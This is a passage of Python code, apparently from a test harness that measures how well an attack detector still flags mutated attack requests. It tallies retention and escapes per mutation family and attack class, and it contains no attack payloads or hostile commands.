               and (mutated[i].request.uri != golden[i].request.uri
                    or mutated[i].request.body != golden[i].request.body
                    or mutated[i].request.headers
                    != golden[i].request.headers)]
        mut_verdicts = _detect([mutated[i].request for i in idx])
        retained = 0
        escapes = []
        by_class: Dict[str, List[int]] = {}
        for j, i in enumerate(idx):
            cls = golden[i].attack_class
            d, t = by_class.setdefault(cls, [0, 0])
            t += 1
            if mut_verdicts[j].attack:
                retained += 1
                d += 1
            else:
                escapes.append({
                    "request_id": golden[i].request.request_id,
                    "attack_class": cls,
                    "carrier": _infer_carrier(golden[i].request),
                    "base_rule_ids": [int(r) for r
                                      in base_verdicts[i].rule_ids],
                    "base_score": int(base_verdicts[i].score),
                })
            by_class[cls] = [d, t]
        fam_out[fam] = {
            "base_detected": len(idx),
            "retained": retained,
            "retention": round(retention_score(len(idx), retained), 4),
            "unmutated_detected": sum(base_attack) - len(idx),
            "per_class": {c: {"retained": d, "mutated": t,
                              "retention": round(retention_score(t, d), 4)}
                          for c, (d, t) in sorted(by_class.items())},
            "escapes": escapes[:max_escape_records],
            "escapes_total": len(escapes),
        }

    return {
        "corpus": {
            "n": n, "attack_fraction": attack_fraction,
            "corpus_seed": corpus_seed, "mutation_seed": seed,
            "attacks": len(golden),
            "base_detected": sum(base_attack),
            "base_detection_rate": round(
                sum(base_attack) / max(len(golden), 1), 4),
        },
        "families": fam_out,
        "min_retention": min(
            (f["retention"] for f in fam_out.values()), default=1.0),
    }
